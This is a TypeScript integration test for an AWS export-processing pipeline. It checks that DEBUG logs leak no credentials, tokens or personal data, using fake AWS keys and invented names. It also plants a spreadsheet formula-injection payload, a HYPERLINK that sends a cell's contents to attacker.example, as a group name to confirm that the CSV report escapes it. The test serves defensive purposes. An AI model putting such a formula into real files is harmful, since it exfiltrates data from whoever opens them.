/**
 * Issue 8, secrets and personal data: every log line of a full run (sync, ingest of every sample export
 * plus copies that carry member names, mobiles and emails as extra columns and in rejected rows, faults on
 * the way so that error paths log too, aggregation) is captured at DEBUG level, and none holds a
 * credential, a token, a group name, a member name, a mobile number or an email. The same run checks a
 * group named like a spreadsheet formula comes out escaped in the CSV report.
 */
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type CapillarySimulator, startCapillarySimulator } from "../../infra/capillary-sim.ts";
import { provision } from "../../infra/provision.ts";
import { type S3Dispatcher, startS3Dispatcher } from "../../infra/s3-dispatcher.ts";
import { buildSample, type GeneratedSample } from "../../infra/sample/generate.ts";
import type { SimState } from "../../infra/sample/membership-types.ts";
import { dynamoError, type FaultProxy, s3Error, startFaultProxy } from "../support/fault-proxy.ts";
import {
  deliver,
  type Handlers,
  handlerEnv,
  loadHandlers,
  readText,
  SIM_CREDENTIALS,
  sampleKeys,
} from "../support/stack-run.ts";
import { localClients, s3ClientFor, uniqueName } from "./helpers.ts";

const AWS_KEY_ID = "AKIALOGTESTFAKE7Q2Z";
const AWS_SECRET = "wJalrXUtnLOGTEST/K7MDENG/bPxRfiCYFAKEKEY";
const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';

/** Personal data put into the test exports (extra columns, and inside rejected rows). */
const PEOPLE = [
  { name: "Priyanka Venkataraman", mobile: "+919876543210", email: "priyanka.v@example-mail.com" },
  { name: "Jörg Übermüller", mobile: "00491701234567", email: "joerg.uebermueller@example.de" },
  { name: "Siobhan O'Loughlin", mobile: "07700900123", email: "siobhan.ol@example.co.uk" },
];

describe("logs of a full run hold no credential, token, name, mobile or email", () => {
  const { stack, s3, dynamo } = localClients();
  const names = {
    exportsBucket: uniqueName("logs-exports"),
    reportsBucket: uniqueName("logs-reports"),
    tableName: uniqueName("logs-table"),
  };
  let dir: string;
  let sample: GeneratedSample;
  let dispatcher: S3Dispatcher;
  let s3Faults: FaultProxy;
  let ddbFaults: FaultProxy;
  let apiFaults: FaultProxy;
  let sim: CapillarySimulator;
  let h: Handlers;
  let states: SimState[];
  const lines: string[] = [];
  let failures: { key: string; error: string }[] = [];

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "glr-logs-"));
    sample = await buildSample({ outDir: dir, seed: 3, months: ["2026-09", "2026-10"] });
    states = sample.input.syncs.map((s) => structuredClone(s.state));
    for (const st of states) {
      const g = st.groups[1];
      if (g) g.groupName = FORMULA_NAME;
    }
    dispatcher = await startS3Dispatcher({ upstream: stack.s3Endpoint, region: stack.region });
    s3Faults = await startFaultProxy(dispatcher.endpoint);
    ddbFaults = await startFaultProxy(stack.dynamoEndpoint);
    sim = await startCapillarySimulator({ state: states[0] as SimState, credentials: SIM_CREDENTIALS });
    apiFaults = await startFaultProxy(sim.url);
    await provision({ s3, ddb: dynamo }, names);

    // Copies of a Points and a Members export with personal data as extra columns (same rows otherwise),
    // plus rows rejected because a personal value sits in an id or date column.
    const extra: string[] = [];
    for (const template of ["points", "members"] as const) {
      const src = sample.manifest.files.find((f) => f.template === template && f.packaging === "csv");
      if (!src) throw new Error(`the sample has a plain ${template} CSV`);
      const records = parse(await readFile(join(dir, ...src.key.split("/"))), {
        bom: true,
        skip_empty_lines: true,
        relax_column_count: true,
      }) as string[][];
      const [header = [], ...body] = records;
      const out = [[...header, "customer_name", "mobile", "email"]];
      body.forEach((r, i) => {
        const p = PEOPLE[i % PEOPLE.length] ?? PEOPLE[0];
        if (p) out.push([...r, p.name, p.mobile, p.email]);
      });
      for (const p of PEOPLE) {
        const bad = [...(body[0] ?? [])];
        bad[0] = p.email; // an email where the key is
        bad[1] = p.mobile;
        out.push([...bad, p.name, p.mobile, p.email]);
      }
      const key = `exports/${template}/with-personal-data.csv`;
      const text = out.map((r) => r.map((v) => `"${v.replaceAll('"', '""')}"`).join(",")).join("\r\n");
      await writeFile(join(dir, "exports", template, "with-personal-data.csv"), `${text}\r\n`);
      extra.push(key);
    }

    // Capture everything the process writes, as CloudWatch would.
    const capture = (chunk: unknown) => {
      const text = typeof chunk === "string" ? chunk : Buffer.from(chunk as Uint8Array).toString("utf8");
      for (const l of text.split("\n")) if (l.trim() !== "") lines.push(l);
    };
    const out = process.stdout.write.bind(process.stdout);
    const err = process.stderr.write.bind(process.stderr);
    const con = { ...console };
    process.stdout.write = ((c: unknown) => {
      capture(c);
      return true;
    }) as typeof process.stdout.write;
    process.stderr.write = ((c: unknown) => {
      capture(c);
      return true;
    }) as typeof process.stderr.write;
    for (const m of ["log", "info", "warn", "error", "debug", "trace"] as const)
      console[m] = (...args: unknown[]) =>
        capture(args.map((a) => (typeof a === "string" ? a : JSON.stringify(a))).join(" "));
    try {
      h = await loadHandlers(
        handlerEnv(stack, names, { s3: s3Faults.endpoint, dynamo: ddbFaults.endpoint }, sim, sample, {
          AWS_ACCESS_KEY_ID: AWS_KEY_ID,
          AWS_SECRET_ACCESS_KEY: AWS_SECRET,
          CAPILLARY_BASE_URL: apiFaults.endpoint,
          CAPILLARY_TIMEOUT_MS: "500",
          POWERTOOLS_LOG_LEVEL: "DEBUG",
        }),
      );
      // Error paths log too: API failures and an expired token, S3 and DynamoDB errors.
      sim.inject({ kind: "status", path: "/v2/userGroup2/members", status: 500, times: 2 });
      sim.inject({ kind: "status", path: "/v2/userGroup2", status: 429, retryAfter: "0", times: 1 });
      for (const [i, st] of states.entries()) {
        sim.setState(st);
        if (i === 1) sim.expireTokens();
        await h.sync();
      }
      dispatcher.setTarget(async (event) => {
        await h.ingest(event);
      });
      s3Faults.add({
        name: "get-denied",
        match: (r) => r.method === "GET" && r.path.includes("/exports/"),
        every: 5,
        times: 3,
        action: s3Error(403, "AccessDenied", "Access Denied"),
      });
      ddbFaults.add({
        name: "throttle",
        match: (r) => r.operation === "PutItem",
        every: 11,
        times: 5,
        action: dynamoError(400, "ThrottlingException", "Rate exceeded"),
      });
      const upload = s3ClientFor(dispatcher.endpoint);
      failures = (
        await deliver(upload, names.exportsBucket, dir, [...sampleKeys(sample), ...extra], dispatcher)
      ).failed;
      upload.destroy();
      await h.aggregate();
    } finally {
      process.stdout.write = out;
      process.stderr.write = err;
      Object.assign(console, con);
    }
  });

  afterAll(async () => {
    await apiFaults?.stop();
    await s3Faults?.stop();
    await ddbFaults?.stop();
    await dispatcher?.stop();
    await sim?.stop();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it("captured the run: structured JSON lines from every function, error paths included", () => {
    expect(failures).toEqual([]);
    const parsed = lines.map((l) => {
      try {
        return JSON.parse(l) as Record<string, unknown>;
      } catch {
        return null;
      }
    });
    const json = parsed.filter((p): p is Record<string, unknown> => p !== null);
    expect(json.length).toBeGreaterThan(50);
    const fns = new Set(json.map((j) => j.function_name));
    for (const fn of ["sync-groups", "ingest-export", "aggregate-groups"]) expect(fns).toContain(fn);
    expect(json.some((j) => j.level === "ERROR" || j.level === "WARN")).toBe(true);
    expect(apiFaults.seen.length).toBeGreaterThan(0);
    // The error paths ran: S3 403s and DynamoDB throttling injected, API faults answered.
    expect(s3Faults.injected.length).toBeGreaterThan(0);
    expect(ddbFaults.injected.length).toBeGreaterThan(0);
    expect(sim.requests().some((r) => r.fault !== null)).toBe(true);
    // Positive control: the ingestion of the files with personal data was logged, and captured here.
    for (const t of ["points", "members"])
      expect(lines.some((l) => l.includes(`exports/${t}/with-personal-data.csv`))).toBe(true);
  });

  it("no line holds a credential or a token", () => {
    const tokens = new Set<string>();
    for (const r of apiFaults.seen) {
      const t = r.headers["x-cap-api-oauth-token"];
      if (typeof t === "string" && t.length > 8) tokens.add(t);
      const a = r.headers.authorization;
      if (typeof a === "string" && a.length > 8) tokens.add(a.replace(/^Basic\s+/i, ""));
    }
    expect(tokens.size).toBeGreaterThan(0);
    const secrets = [
      AWS_KEY_ID,
      AWS_SECRET,
      SIM_CREDENTIALS.oauth.key,
      SIM_CREDENTIALS.oauth.secret,
      SIM_CREDENTIALS.basic.password,
      ...tokens,
    ].filter((s) => s.length > 3);
    for (const l of lines)
      for (const s of secrets) expect(l.includes(s), `log line leaks ${s}: ${l.slice(0, 300)}`).toBe(false);
  });

  it("no line holds a group name, a member name, a mobile number or an email", () => {
    const groupNames = new Set(states.flatMap((s) => s.groups.map((g) => g.groupName)));
    const personal = [...groupNames, ...PEOPLE.flatMap((p) => [p.name, p.mobile, p.email])];
    const emailLike = /[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}/;
    for (const l of lines) {
      for (const v of personal) expect(l.includes(v), `log line leaks ${v}: ${l.slice(0, 300)}`).toBe(false);
      expect(emailLike.test(l), `log line holds an email: ${l.slice(0, 300)}`).toBe(false);
    }
  });

  it("a group named like a formula is escaped in the CSV report", async () => {
    const m = JSON.parse(
      (await readText(s3, names.reportsBucket, "reports/latest/manifest.json")) ?? "{}",
    ) as {
      files: { key: string }[];
    };
    const key = m.files.find((f) => f.key.endsWith("/group_summary.csv"))?.key ?? "";
    const csv = (await readText(s3, names.reportsBucket, key)) ?? "";
    const rows = parse(csv) as string[][];
    const col = rows[0]?.indexOf("group_name") ?? -1;
    const cells = rows.slice(1).map((r) => r[col] ?? "");
    expect(cells).toContain(`'${FORMULA_NAME}`);
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@]/);
  });
});
